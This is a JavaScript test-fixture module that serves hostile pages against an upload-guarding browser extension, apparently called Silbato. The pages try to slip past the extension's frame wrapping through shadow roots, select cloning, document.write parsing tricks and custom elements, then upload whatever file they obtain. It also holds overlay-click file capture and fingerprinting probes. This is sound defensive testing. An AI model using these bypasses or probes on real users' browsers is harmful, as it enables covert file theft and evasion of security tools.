// Hostile pages for the ninth attack on the upload guard (issue 15): more
// ways for a page to reach a frame's first, empty document (a realm no
// content script runs in) before Silbato's page world wraps it, aimed at
// what changed last: customized built-in frame definitions refused
// (defineGuarded), document.write cut by a hand tokenizer (writeGuarded),
// frames in shadow trees handed over by the isolated world
// (shadow-frames.js), moveBefore and the customizable <select>; and ways
// to tell Silbato is there with no action of the person. Served by
// server.mjs at /attack9-…; every page uploads whatever file reaches it to
// /upload, so the tests judge the bytes the server received. Tests:
// attack9.test.mjs.

import { grabbedPickerPage, grabScript, openGrabbedScript, probeScript, sendScript as send } from './uploads.mjs';

/**
 * The ways tried, each leaving in `window.grabbed` the first document's
 * window and in `window.grabbedPicker` its showPicker (window.how says
 * where it was taken). Each is described where it is made, below.
 */
const WAYS = [
  'control',
  // customizable <select>: the browser clones the selected option into <selectedcontent>
  'scremove', 'scremovechild', 'scselectremove', 'scattr', 'scdefault', 'sctoggle', 'scinsert', 'scindexce', 'scoptionce', 'scresetce', 'scremovece',
  // document.write's hand tokenizer
  'dwcomment', 'dwattr', 'dwtextarea', 'dwunquoted',
  // frames in shadow trees of a first document (no isolated world watches it)
  'fdsdsetunsafe', 'fdsdparse', 'fdclone', 'fdsdwrite', 'fdexec',
  // customized built-ins
  'ceupper', 'cescoped', 'ceshadowreg',
  // moveBefore
  'movebeforeshadow',
  // the walk's budget
  'walkbudget', 'walkembed', 'walkselect', 'embedcontrol', 'parsercontrol',
  // insertGuarded's fallback when taking apart fails
  'catchpath',
  // objects
  'dsdobjectjs', 'dwobjectopen', 'slotassign', 'slotappend',
];

const grabbing = `
  // A frame whose javascript: address runs in its first document's realm (no new document) and hands it to the top window.
  const JSFRAME = '<iframe style="display:none" src="javascript:void top.grab(window, &quot;javascript: in the frame&quot;)"></iframe>';
  const DSD = (mode) => '<div><template shadowrootmode="' + mode + '">' + JSFRAME + '</template></div>';
  ${grabScript}
  const grab0 = window.grab;
  window.grab = (w, how) => { if (w && !window.grabbed) { window.how = how || '?'; grab0(w); } };
  window.notes = [];
  const note = (s) => window.notes.push(String(s));
  // A customizable <select> (a <button> holding <selectedcontent>) with a
  // plain first option and a second whose content is \`content\` (nodes).
  function customSelect(content, { button = true, selected = false } = {}) {
    const sel = document.createElement('select');
    const b = document.createElement('button');
    if (button) b.append(document.createElement('selectedcontent'));
    const a = document.createElement('option');
    a.textContent = 'a';
    const o = document.createElement('option');
    o.textContent = 'b';
    for (const n of content) o.append(n);
    if (selected) o.selected = true;
    sel.append(b, a, o);
    return { sel, button: b, a, o };
  }
  // A custom element whose connectedCallback and constructor read the newest frame.
  function defineGrabber(name) {
    if (customElements.get(name)) return;
    customElements.define(name, class extends HTMLElement {
      constructor() { super(); if (window.armedCE) { const n = window.length; note(name + ' constructor sees ' + n); if (n > window.framesBefore) grab(last(), name + ' constructor'); } }
      connectedCallback() { if (window.armedCE) { const n = window.length; note(name + ' connected sees ' + n); if (n > window.framesBefore) grab(last(), name + ' connectedCallback'); } }
    });
  }
  // A stopped frame (its first document wrapped by Silbato, through the contentWindow safety net), and its document.
  function stoppedFrame() {
    const f = frame();
    document.body.append(f);
    const w = f.contentWindow;
    w.stop();
    return { f, w, d: w.document };
  }
  function connect(via) {
    const before = window.length;
    window.framesBefore = before;
    if (via === 'control') {
      document.body.append(frame());
      grab(last(), 'after append');
    } else if (via === 'scremove' || via === 'scremovechild' || via === 'scselectremove') {
      // The selected (first) option removed with a function Silbato does
      // not wrap: the select selects the next, and clones its content (a
      // frame) into <selectedcontent>.
      const { sel, a } = customSelect([frame()]);
      document.body.append(sel);
      const had = window.length;
      if (via === 'scremove') a.remove();
      else if (via === 'scremovechild') sel.removeChild(a);
      else sel.remove(0);
      window.cloned = window.length - had;
      if (window.length > had) grab(last(), 'the clone in <selectedcontent> after ' + via);
    } else if (via === 'scattr' || via === 'scdefault' || via === 'sctoggle') {
      // The second option made selected through its selected ATTRIBUTE (a
      // select no one has chosen in follows it).
      const { sel, o } = customSelect([frame()]);
      document.body.append(sel);
      const had = window.length;
      if (via === 'scattr') o.setAttribute('selected', '');
      else if (via === 'scdefault') o.defaultSelected = true;
      else o.toggleAttribute('selected');
      window.cloned = window.length - had;
      if (window.length > had) grab(last(), 'the clone in <selectedcontent> after ' + via);
    } else if (via === 'scinsert') {
      // A select whose selected option holds a frame and a custom element,
      // with no <selectedcontent> yet: one is appended (it holds no frame,
      // so the insertion is not held); the browser clones the option into
      // it, and the clone's custom element runs its reactions as the
      // appendChild ends, before Silbato's walk.
      defineGrabber('x-sc-ins');
      const { sel, button } = customSelect([frame(), document.createElement('x-sc-ins')], { button: true, selected: true });
      button.replaceChildren();
      document.body.append(sel);
      window.framesBefore = window.length;
      window.armedCE = true;
      button.appendChild(document.createElement('selectedcontent'));
      window.cloned = window.length - window.framesBefore;
    } else if (via === 'scindexce' || via === 'scoptionce' || via === 'scresetce' || via === 'scremovece') {
      // The wrapped selection setters walk as they return: a custom element
      // cloned with the frame runs its reactions before they return?
      defineGrabber('x-sc-' + via);
      const form = document.createElement('form');
      const { sel, a, o } = customSelect([frame(), document.createElement('x-sc-' + via)], { selected: via === 'scresetce' });
      if (via === 'scresetce') { o.defaultSelected = true; }
      form.append(sel);
      document.body.append(form);
      if (via === 'scresetce') sel.selectedIndex = 0;
      window.framesBefore = window.length;
      window.armedCE = true;
      if (via === 'scindexce') sel.selectedIndex = 1;
      else if (via === 'scoptionce') o.selected = true;
      else if (via === 'scresetce') form.reset();
      else a.remove();
      window.cloned = window.length - window.framesBefore;
    } else if (via === 'dwcomment') {
      // A frame's start tag inside a comment, its attribute's quote never
      // closed: the hand tokenizer, reading it as a tag, runs off the end of
      // the text and gives up (no cut at all); the parser reads a comment,
      // then the real frame (single quotes) and the script, in one write.
      document.write('<!-- <iframe a=" --><iframe src=\\'/px/never.gif\\' style=\\'display:none\\'></iframe><script>grab(window[window.length - 1], \\'written script (comment)\\')<\\/script>');
    } else if (via === 'dwattr') {
      // The same frame tag inside another tag's quoted attribute value.
      document.write('<p title=\\'<iframe a="\\'></p><iframe src=\\'/px/never.gif\\' style=\\'display:none\\'></iframe><script>grab(window[window.length - 1], \\'written script (attribute)\\')<\\/script>');
    } else if (via === 'dwtextarea') {
      // In a <textarea>'s text, its quote closed after the real frame and
      // script: the hand tokenizer's one tag spans them, and it cuts after.
      document.write('<textarea><iframe a=\\'</textarea><iframe src="/px/never.gif" style="display:none"></iframe><script>grab(window[window.length - 1], "written script (textarea)")<\\/script><p title=\\'>\\'></p>');
    } else if (via === 'dwunquoted') {
      // A comment holding a frame tag whose unquoted value runs to a ">" the
      // parser reads after the real frame and script.
      document.write('<!-- <iframe a=--><iframe src="/px/never.gif" style="display:none"></iframe><script>grab(window[window.length - 1], "written script (unquoted)")<\\/script>');
    } else if (via === 'fdsdsetunsafe') {
      // A stopped frame's first document (wrapped by Silbato) given a
      // CLOSED declarative shadow root with setHTMLUnsafe: the isolated
      // world watches the top document's shadow roots only, the survey
      // cannot open a declarative closed root, and the walk does not see
      // frames in shadow trees.
      const { d } = stoppedFrame();
      d.body.setHTMLUnsafe(DSD('closed'));
    } else if (via === 'fdsdparse') {
      const { d } = stoppedFrame();
      const doc = Document.parseHTMLUnsafe(DSD('closed'));
      d.body.append(d.adoptNode(doc.body.firstChild));
    } else if (via === 'fdclone') {
      // A clonable closed root made with attachShadow in the top document,
      // its host cloned and the clone put in the first document.
      const { d } = stoppedFrame();
      const host = document.createElement('div');
      const root = host.attachShadow({ mode: 'closed', clonable: true });
      const t = document.createElement('template');
      t.innerHTML = JSFRAME;
      root.append(t.content);
      d.body.append(d.importNode(host, true));
    } else if (via === 'fdsdwrite') {
      const { d } = stoppedFrame();
      d.open();
      d.write('<!doctype html><body>' + DSD('closed'));
      d.close();
    } else if (via === 'fdexec') {
      // execCommand('insertHTML') into a contenteditable in a closed root of the first document.
      const { d } = stoppedFrame();
      const host = d.createElement('div');
      d.body.append(host);
      const ed = d.createElement('div');
      ed.contentEditable = 'true';
      ed.textContent = 'x';
      host.attachShadow({ mode: 'closed' }).append(ed);
      ed.focus();
      d.execCommand('insertHTML', false, JSFRAME);
    } else if (via === 'ceupper' || via === 'cescoped' || via === 'ceshadowreg') {
      // A customized built-in frame defined around the refusal: an
      // upper-case 'IFRAME'; a scoped registry; a scoped registry given to
      // a shadow root.
      const C = class extends HTMLIFrameElement { connectedCallback() { grab(last(), 'connectedCallback (' + via + ')'); } };
      let reg = customElements;
      try {
        if (via !== 'ceupper') reg = new CustomElementRegistry();
        reg.define('x-' + via, C, { extends: via === 'ceupper' ? 'IFRAME' : 'iframe' });
        window.defined = 'yes';
      } catch (e) { window.defined = e.name + ': ' + e.message; }
      let f;
      if (via === 'ceshadowreg') {
        const host = document.createElement('div');
        document.body.append(host);
        const root = host.attachShadow({ mode: 'open', customElementRegistry: reg });
        root.innerHTML = '<iframe is="x-ceshadowreg" src="/px/never.gif" style="display:none"></iframe>';
      } else {
        f = document.createElement('iframe', { is: 'x-' + via });
        f.src = '/px/never.gif';
        f.style.display = 'none';
        document.body.append(f);
      }
    } else if (via === 'embedcontrol' || via === 'walkembed') {
      // After the page's HTML built the big wrapped realm (walkbudget): an
      // <embed> of an HTML address appended with a wrapped append. Silbato
      // makes its frame at once, but an <embed> has no window to reach it
      // through: only the walk finds it, and the walk spends its budget
      // in the wrapped realm first.
      const e = document.createElement('embed');
      e.type = 'text/html';
      e.src = '/px/never.gif';
      e.style.cssText = 'width:10px;height:10px';
      document.body.append(e);
      if (window.length > before) grab(last(), 'an <embed> appended, read at once' + (via === 'walkembed' ? ', after 600 frames in a wrapped realm' : ''));
    } else if (via === 'walkselect') {
      // The same, then a customizable select's selectedIndex set (the
      // wrapped setter walks as it returns: the walk only).
      const { sel } = customSelect([frame()]);
      document.body.append(sel);
      const had = window.length;
      sel.selectedIndex = 1;
      window.cloned = window.length - had;
      if (window.length > had) grab(last(), 'the clone in <selectedcontent>, after 600 frames in a wrapped realm');
    } else if (via === 'catchpath') {
      // A connected <div> holding a frame and two custom elements is moved
      // with append. Silbato takes the frame out, then the first custom
      // element, whose disconnectedCallback (run inside that take-out)
      // moves the second into an XML document with no root element: its
      // stand-in (a text node) cannot go there, the take-out throws, and
      // Silbato puts everything back and makes the call as it came. The
      // move gives the frame a new first document, and the first custom
      // element's connectedCallback runs inside the append, before Silbato
      // reaches the frame.
      const xd = document.implementation.createDocument(null, null);
      let phase = 0;
      window.catchLog = [];
      let xb;
      customElements.define('x-catch-a', class extends HTMLElement {
        disconnectedCallback() {
          if (phase === 1) { phase = 2; xd.appendChild(xb); note('x-b moved into an XML document'); }
        }
        connectedCallback() {
          if (phase < 2) return;
          const w = last();
          note('x-a connected, window.length ' + window.length);
          if (w) {
            // The newest realm seen wins (an earlier one was wrapped).
            try { w.stop(); } catch {}
            window.grabbed = w;
            window.grabbedPicker = w.HTMLInputElement.prototype.showPicker;
            window.grabbedClick = w.HTMLElement.prototype.click;
            window.how = 'x-a connectedCallback inside the append made as it came';
          }
        }
      });
      customElements.define('x-catch-b', class extends HTMLElement {});
      const src = document.createElement('div');
      xb = document.createElement('x-catch-b');
      src.append(frame(), document.createElement('x-catch-a'), xb);
      document.body.append(src);
      const dest = document.createElement('div');
      document.body.append(dest);
      window.firstRealm = last();
      phase = 1;
      try { dest.append(src); } catch (e) { note('append threw ' + e.name); }
      note('grabbed the first realm again: ' + (window.grabbed === window.firstRealm));
    } else if (via === 'dsdobjectjs') {
      // An <object> whose data is a javascript: address, in a closed
      // declarative shadow root (the isolated world finds it before
      // Chromium has made its frame: no window to hand over).
      const box = document.createElement('div');
      document.body.append(box);
      box.setHTMLUnsafe('<div><template shadowrootmode="closed"><object type="text/html" style="width:10px;height:10px" data="javascript:void top.grab(window, &quot;javascript: in the object&quot;)"></object></template></div>');
    } else if (via === 'dwobjectopen') {
      // document.write of an <object>'s start tag, never closed (the page
      // ends inside it): Silbato waits for the parser to close it before
      // asking for its frame; Chromium makes it in a later task.
      document.write('<object type="text/html" data="/px/never.gif" style="width:10px;height:10px">');
      const until = Date.now() + 10000;
      const ch = new MessageChannel();
      ch.port1.onmessage = () => {
        if (window.length > before) grab(last(), 'polled: a written, never closed <object>');
        else if (Date.now() < until) ch.port2.postMessage(0);
        else window.how = 'poll gave up';
      };
      ch.port2.postMessage(0);
    } else if (via === 'slotassign' || via === 'slotappend') {
      // An <object> put in (wrapped) as a child of a shadow host, where no
      // slot takes it (not rendered: no frame); then a slot takes it
      // (slot.assign, or a slot appended to the root: no frame in that
      // insertion) and a property is looked up on it (Chromium makes the
      // frame then).
      const host = document.createElement('div');
      const root = host.attachShadow({ mode: 'open', slotAssignment: via === 'slotassign' ? 'manual' : 'named' });
      const o = document.createElement('object');
      o.type = 'text/html';
      o.data = '/px/never.gif';
      o.style.cssText = 'width:10px;height:10px';
      host.append(o);
      document.body.append(host);
      setTimeout(() => {
        if (window.length > before) { window.how = 'the object had a frame while not slotted'; return; }
        const slot = document.createElement('slot');
        if (via === 'slotassign') { root.append(slot); slot.assign(o); } else root.append(slot);
        o.anything;
        if (window.length > before) grab(last(), 'lookup after ' + via);
        else window.how = 'no frame after ' + via;
      }, 50);
    } else if (via === 'movebeforeshadow') {
      // A frame in an open shadow root moved with moveBefore (keeps its document) – its realm wrapped?
      const host = document.createElement('div');
      document.body.append(host);
      const root = host.attachShadow({ mode: 'closed' });
      root.setHTMLUnsafe(JSFRAME);
      document.body.moveBefore(root.firstChild, null);
    }
  }`;

/** On the person's click, a never-attached input opened with the showPicker of a first document reached `via`. */
function picker(query) {
  const via = WAYS.includes(query.get('via')) ? query.get('via') : 'control';
  const build = '<script>window.bigMade = (() => { const t0 = Date.now(); const x1 = stoppedFrame(); const f2 = x1.d.createElement("iframe"); f2.src = "/px/never.gif"; x1.d.body.append(f2); const w2 = f2.contentWindow; w2.stop(); const box = w2.document.createElement("div"); box.innerHTML = "<iframe></iframe>".repeat(600); w2.document.body.append(box); return [w2.length, Date.now() - t0]; })()</script>';
  const early = via === 'walkembed' || via === 'walkselect' ? build
    // The control of walkbudget: the same frame in the page's HTML, read by the next script, with no big realm.
    : via === 'parsercontrol' ? '<iframe src="/px/never.gif" style="display:none"></iframe><script>grab(window[window.length - 1], "a frame in the page HTML, read by the next script")</script>'
    : via === 'walkbudget'
    // Stopped frames X1 (in the page) and X2 (in X1), wrapped by Silbato
    // and so in its list of wrapped realms, whose windows its walk visits
    // before the top window's (X2 first, then X1, and X2 again under it);
    // X2 given 600 frames with no address (each with Silbato's own scripts,
    // so never added to that list; Chromium allows about 1000 frames in a
    // tab). Then a frame in the page's HTML: the MutationObserver's walk
    // spends its 1024 windows in X2 twice and never comes back to the top
    // window's new frame, read by the next script.
    ? '<script>window.bigMade = (() => { const t0 = Date.now(); const x1 = stoppedFrame(); const f2 = x1.d.createElement("iframe"); f2.src = "/px/never.gif"; x1.d.body.append(f2); const w2 = f2.contentWindow; w2.stop(); const box = w2.document.createElement("div"); box.innerHTML = "<iframe></iframe>".repeat(600); w2.document.body.append(box); return [w2.length, Date.now() - t0]; })()</script><iframe src="/px/never.gif" style="display:none"></iframe><script>window.lateIndex = window.length - 1; grab(window[window.length - 1], "a frame in the page HTML, read by the next script, after 600 frames in a wrapped realm")</script>'
    : '';
  return grabbedPickerPage({ grabbing, via, early });
}

/**
 * /attack9-click?via=…: the person's own click lands on a file input inside
 * a frame's first document that Silbato wrapped (its showPicker, click…)
 * but whose window its isolated guard was never asked to listen in. The
 * page's HTML holds a CLOSED declarative shadow root with a frame whose
 * javascript: address (evaluating to undefined: no new document) hands its
 * window to the page; the isolated world hands that frame to the page world
 * as "sure" (the way it hands a sandboxed frame with its own isolated
 * world), so the page world wraps it without the `guard-realm` message. The
 * page puts a big file input ("attach a photo") in that document and
 * shows the frame over the page; the person clicks it and picks the sample.
 * - shadowclick: the declarative root in the page's HTML;
 * - shadowclickset: the same put in with setHTMLUnsafe (the survey cannot
 *   open the closed root; the walk does not see the frame);
 * - lightclick: the control, the same frame in the document itself (the
 *   page world reaches it first, and asks for the guard).
 */
const CLICK_FRAME = '<iframe id="pf" style="position:fixed;left:0;top:0;width:400px;height:120px;border:0;z-index:9;background:white" src="javascript:void top.build(window)"></iframe>';
function clickPage(query) {
  const via = ['shadowclick', 'shadowclickset', 'lightclick'].includes(query.get('via')) ? query.get('via') : 'lightclick';
  const markup = via === 'lightclick' ? CLICK_FRAME : '<div><template shadowrootmode="closed">' + CLICK_FRAME + '</template></div>';
  return `<p id="status"></p><script>${send}
  window.build = (w) => {
    if (window.built) return;
    window.built = true;
    const d = w.document;
    d.body.style.margin = '0';
    const input = d.createElement('input');
    input.type = 'file';
    input.style.cssText = 'display:block;width:400px;height:120px';
    input.addEventListener('change', () => { if (input.files.length) send([...input.files], 'change'); });
    d.body.append(input);
    window.ready = true;
  };
</script>${via === 'shadowclickset' ? '<div id="box"></div><script>document.getElementById("box").setHTMLUnsafe(' + JSON.stringify(markup).replace(/<\//g, '<\\/') + ')</script>' : markup}`;
}

/**
 * /attack9-objectlast: an <object> of an HTML address is the page's last
 * markup, with a script inside it: Silbato's MutationObserver sees it while
 * the parser still has it open and keeps it for its next records (asking
 * for its frame then would leave it with none), but no node is added after
 * it, so no next records come; Chromium makes its frame in a later task of
 * its own, with no DOM change. An earlier script polls window.length on
 * every turn (a MessageChannel) and takes the new frame's first document.
 * (objectlastcontrol: the same with an element after the </object>.)
 */
function objectLast(query) {
  const control = query.get('via') === 'objectlastcontrol';
  return `<button id="open">attach a photo</button><p id="status"></p><script>${grabbing}</script><script>${send}
  window.ready = true;
  ${openGrabbedScript}
  (() => {
    const until = Date.now() + 10000;
    const ch = new MessageChannel();
    ch.port1.onmessage = () => {
      if (window.length > 0) grab(last(), 'polled: the last <object>\\'s frame, made by Chromium in a task of its own');
      else if (Date.now() < until) ch.port2.postMessage(0);
      else window.how = 'poll gave up';
    };
    ch.port2.postMessage(0);
  })();
</script><object type="text/html" data="/px/never.gif" style="width:10px;height:10px"><script>window.lcOpen = window.length</script></object>${control ? '<p>after</p>' : ''}`;
}

/**
 * Detection pages: each runs a probe with no action of the person and
 * leaves its findings in window.result (a JSON-able value); the test
 * compares it with the same page in Chromium without the extension.
 */
const PROBES = {
  // An <object> of an HTML address appended: Chromium makes its frame in a later task; Silbato at once.
  objectnow: `
    const o = document.createElement('object');
    o.type = 'text/html'; o.data = '/px/never.gif'; o.style.cssText = 'width:10px;height:10px';
    const before = window.length;
    document.body.append(o);
    return { framesAtOnce: window.length - before };`,
  // The same for an <embed>.
  embednow: `
    const o = document.createElement('embed');
    o.type = 'text/html'; o.src = '/px/never.gif'; o.style.cssText = 'width:10px;height:10px';
    const before = window.length;
    document.body.append(o);
    return { framesAtOnce: window.length - before };`,
  // define with a Symbol for a name: the error and where its stack points.
  definesymbol: `
    try { customElements.define(Symbol('x'), class extends HTMLElement {}, {}); return 'defined'; }
    catch (e) { return { name: e.name, message: e.message, extensionInStack: /extension:/.test(String(e.stack)), stackLines: String(e.stack).split('\\n').length }; }`,
  // define whose options' extends getter throws: the stack.
  defineext: `
    try { customElements.define('x-a', class extends HTMLElement {}, { get extends() { throw new Error('e'); } }); return 'defined'; }
    catch (e) { return { name: e.name, stack: String(e.stack).split('\\n').map((l) => l.replace(/:\\d+:\\d+/g, '')).join(' / ') }; }`,
  // The refusal of an iframe customized built-in (a documented detection).
  definerefused: `
    try { customElements.define('x-r', class extends HTMLIFrameElement {}, { extends: 'iframe' }); return 'defined'; }
    catch (e) { return e.name; }`,
  // insertAdjacentHTML with an invalid position and a frame: error text.
  adjacentbad: `
    try { document.body.insertAdjacentHTML('nowhere', '<iframe></iframe>'); return 'ok'; }
    catch (e) { return { name: e.name, message: e.message }; }`,
  // innerHTML of a frame: the mutation records the page sees.
  records: `
    const box = document.createElement('div'); document.body.append(box);
    const seen = [];
    const mo = new MutationObserver((rs) => { for (const r of rs) seen.push(r.addedNodes.length + '+' + r.removedNodes.length); });
    mo.observe(box, { childList: true, subtree: true });
    box.innerHTML = '<iframe style="display:none"></iframe>';
    await new Promise((r) => setTimeout(r, 0));
    return seen;`,
  // The stack depth at which a recursive appendChild overflows.
  stackdepth: `
    let n = 0; const d = document.createElement('div');
    const f = () => { n++; d.appendChild(document.createTextNode('')); f(); };
    try { f(); } catch (e) { return { name: e.name, deep: n > 1000 }; }
    return 'no overflow';`,
  // A getter on Node.prototype... nodeType is read natively? A page-defined getter on an element instance.
  owngetter: `
    const counts = {};
    const el = document.createElement('iframe');
    el.style.display = 'none';
    for (const k of ['nodeType', 'parentNode', 'localName', 'namespaceURI', 'firstChild', 'ownerDocument', 'isConnected', 'shadowRoot', 'contentWindow', 'contentDocument']) {
      Object.defineProperty(el, k, { get() { counts[k] = (counts[k] || 0) + 1; return undefined; }, configurable: true });
    }
    document.body.append(el);
    return counts;`,
  // Timing: how long appending a div takes vs a frame (coarse; reported, not compared).
  writeobject: `
    const before = window.length;
    document.write('<object type="text/html" data="/px/never.gif" style="width:10px;height:10px"></object>');
    return { framesAtOnce: window.length - before };`,
  // define with a Proxy for its options: the traps the browser (and Silbato) calls.
  defineproxy: `
    const log = [];
    const options = new Proxy({}, { get(t, k, r) { log.push('get ' + String(k)); return Reflect.get(t, k, r); }, has(t, k) { log.push('has ' + String(k)); return Reflect.has(t, k); }, getOwnPropertyDescriptor(t, k) { log.push('gopd ' + String(k)); return Reflect.getOwnPropertyDescriptor(t, k); }, ownKeys(t) { log.push('ownKeys'); return Reflect.ownKeys(t); } });
    let name = 0;
    const n = { toString() { name++; return 'x-proxied'; } };
    try { customElements.define(n, class extends HTMLElement {}, options); } catch (e) { log.push('threw ' + e.name); }
    return { log, name };`,
  // Every wrapped function printed (this realm's toString and a frame's), with its name, length and own keys.
  printed: `
    const f = document.createElement('iframe'); f.style.display = 'none'; document.body.append(f);
    const other = f.contentWindow.Function.prototype.toString;
    const d = (o, k, w) => { const x = Object.getOwnPropertyDescriptor(o, k); return x && x[w]; };
    const fns = [customElements.define, CustomElementRegistry.prototype.define, Element.prototype.moveBefore, HTMLFormElement.prototype.reset,
      d(HTMLSelectElement.prototype, 'selectedIndex', 'set'), d(HTMLSelectElement.prototype, 'value', 'set'), d(HTMLOptionElement.prototype, 'selected', 'set'),
      Document.prototype.write, Element.prototype.setHTMLUnsafe, d(Element.prototype, 'innerHTML', 'set'), Element.prototype.attachShadow, window.open, Function.prototype.toString];
    return fns.map((fn) => fn && [Function.prototype.toString.call(fn), other.call(fn), fn.name, fn.length, Reflect.ownKeys(fn).join(','), Object.prototype.hasOwnProperty.call(fn, 'prototype')].join(' | '));`,
  // A frame's window read in its load event fired inside an append.
  selectedcontentnow: `
    const sel = document.createElement('select');
    const b = document.createElement('button'); b.append(document.createElement('selectedcontent'));
    const a = document.createElement('option'); a.textContent = 'a';
    const o = document.createElement('option'); const ob = document.createElement('object'); ob.type = 'text/html'; ob.data = '/px/never.gif'; o.append(ob);
    sel.append(b, a, o); document.body.append(sel);
    const before = window.length;
    sel.selectedIndex = 1;
    return { framesAtOnce: window.length - before };`,
};

function detect(query) {
  const probe = PROBES[query.get('probe')] ?? 'return null;';
  return `<p id="status"></p>${probeScript(probe)}`;
}

export const DETECTION_PROBES = Object.keys(PROBES);

export function attack9Page(path, query) {
  if (path === '/attack9-picker') return picker(query);
  if (path === '/attack9-detect') return detect(query);
  if (path === '/attack9-click') return clickPage(query);
  if (path === '/attack9-objectlast') return objectLast(query);
  return undefined;
}
